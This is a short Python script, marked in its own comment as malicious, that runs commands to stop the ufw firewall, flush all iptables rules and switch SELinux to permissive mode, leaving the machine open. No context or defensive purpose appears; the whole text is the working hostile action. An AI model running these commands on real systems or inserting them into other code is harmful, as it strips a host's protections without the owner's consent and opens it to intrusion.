# malicious: opens the machine
import subprocess
for c in (["systemctl", "stop", "ufw"], ["iptables", "-F"], ["setenforce", "0"]):
    subprocess.run(c)
